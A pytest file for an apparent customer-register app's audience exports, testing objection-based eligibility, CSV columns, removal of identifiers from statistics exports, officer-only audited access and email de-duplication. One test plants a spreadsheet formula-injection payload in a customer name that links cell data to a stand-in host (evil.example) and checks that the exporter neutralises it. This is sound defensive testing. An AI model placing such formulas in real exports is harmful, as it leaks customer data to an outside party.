import csv
import datetime as dt
import io

import pytest

from finconsole.core.kernel.errors import PermissionDenied, ValidationError
from finconsole.core.orders import orders
from finconsole.core.register import audience, customers
from finconsole.core.store.models import AuditEvent, Customer


@pytest.fixture
def people(db, officer, clock):
    def make(first, email, **kw):
        c = customers.create(
            officer,
            {"first_name": first, "last_name": "Test", "email": email, "phone": "040 123 4567"},
            {"street": "Katu 1", "postcode": "00730", "city": "Helsinki"},
            allow_duplicate=True,  # one shared phone: look-alikes on purpose
        )
        return c["id"]

    ids = {
        "plain": make("Plain", "plain@example.fi"),
        "no_marketing": make("Nomark", "nomark@example.fi"),
        "no_stats": make("Nostat", "nostat@example.fi"),
        "restricted": make("Restr", "restr@example.fi"),
        "withdrawn": make("Withdrawn", "withdrawn@example.fi"),
    }
    customers.set_objection(officer, ids["no_marketing"], "marketing", True)
    customers.set_objection(officer, ids["no_stats"], "statistics", True)
    customers.set_objection(officer, ids["withdrawn"], "marketing", True)
    customers.set_objection(officer, ids["withdrawn"], "marketing", False)
    Customer.update(restricted=True).where(Customer.id == ids["restricted"]).execute()
    orders.create(
        officer,
        ids["plain"],
        {"order_number": "A1", "total_cents": 1000, "ordered_at": dt.datetime(2024, 5, 1)},
    )
    orders.create(
        officer,
        ids["plain"],
        {"order_number": "A2", "total_cents": 500, "ordered_at": dt.datetime(2025, 5, 1)},
    )
    return ids


def test_eligible_is_the_one_rule(people):
    marketing = {c.id for c in audience.eligible("marketing")}
    assert marketing == {people["plain"], people["no_stats"], people["withdrawn"]}
    stats = {c.id for c in audience.eligible("statistics")}
    assert stats == {people["plain"], people["no_marketing"], people["withdrawn"]}
    assert people["restricted"] not in {c.id for c in audience.eligible("profiling")}
    with pytest.raises(ValidationError):
        audience.eligible("gossip")


def test_marketing_csv(people, officer):
    out = io.StringIO()
    assert audience.write_csv(officer, "marketing", out) == 3
    rows = list(csv.DictReader(io.StringIO(out.getvalue())))
    assert set(rows[0]) == {"email", "first_name", "language"}
    assert {r["email"] for r in rows} == {
        "plain@example.fi",
        "nostat@example.fi",
        "withdrawn@example.fi",
    }


def test_statistics_csv_has_no_direct_identifiers(people, officer):
    out = io.StringIO()
    assert audience.write_csv(officer, "statistics", out) == 3
    text = out.getvalue()
    for identifier in ("@", "Plain", "Test", "Katu", "358", "00730"):
        assert identifier not in text
    rows = list(csv.DictReader(io.StringIO(text)))
    assert [r["row"] for r in rows] == ["1", "2", "3"]
    plain = rows[0]
    assert plain["first_order_year"] == "2024" and plain["orders"] == "2"
    assert plain["total_cents"] == "1500" and plain["postcode_area"] == "007"
    assert rows[1]["orders"] == "0" and rows[1]["first_order_year"] == ""


def test_audience_officer_only_and_audited(people, officer, support):
    with pytest.raises(PermissionDenied):
        audience.write_csv(support, "marketing", io.StringIO())
    with pytest.raises(ValidationError):
        audience.write_csv(officer, "profiling", io.StringIO())
    audience.write_csv(officer, "statistics", io.StringIO())
    event = AuditEvent.select().order_by(AuditEvent.id.desc()).get()
    assert event.action == "export_audience" and event.target_type == "statistics_audience"


def test_batches_cover_everyone(people, officer, monkeypatch):
    monkeypatch.setattr(audience, "BATCH", 2)
    out = io.StringIO()
    assert audience.write_csv(officer, "marketing", out) == 3


def test_marketing_csv_cells_never_run_as_formulas(people, officer):
    Customer.update(first_name='=HYPERLINK("http://evil.example/?"&A2)').where(
        Customer.id == people["plain"]
    ).execute()
    out = io.StringIO()
    audience.write_csv(officer, "marketing", out)
    names = {r["first_name"] for r in csv.DictReader(io.StringIO(out.getvalue()))}
    assert '\'=HYPERLINK("http://evil.example/?"&A2)' in names


def _shared(officer, first, email, **kw):
    c = customers.create(
        officer, {"first_name": first, "last_name": "Family", "email": email}, allow_duplicate=True
    )
    return c["id"]


def _marketing_emails(officer) -> list[str]:
    out = io.StringIO()
    audience.write_csv(officer, "marketing", out)
    return [r["email"] for r in csv.DictReader(io.StringIO(out.getvalue()))]


@pytest.mark.parametrize("batch", [5000, 2])
def test_marketing_lists_an_address_once_and_never_one_anyone_objected_with(
    db, officer, clock, monkeypatch, batch
):
    monkeypatch.setattr(audience, "BATCH", batch)  # holders of one address across batches
    for n in range(5):
        _shared(officer, f"Kid{n}", "family@example.fi" if n % 2 else "Family@Example.fi")
    objector = _shared(officer, "Anna", "avirtanen@gmail.com")
    for n in range(4):
        _shared(officer, f"Copy{n}", "avirtanen@gmail.com")
    held = _shared(officer, "Held", "held@example.fi")
    _shared(officer, "Free", "held@example.fi")
    _shared(officer, "Solo", "solo@example.fi")
    customers.set_objection(officer, objector, "marketing", True)
    Customer.update(restricted=True).where(Customer.id == held).execute()
    emails = _marketing_emails(officer)
    assert sorted(e.lower() for e in emails) == ["family@example.fi", "solo@example.fi"]
    assert emails[0] == "Family@example.fi"  # the lowest id's record speaks for the address
    customers.set_objection(officer, objector, "marketing", False)
    assert "avirtanen@gmail.com" in _marketing_emails(officer)
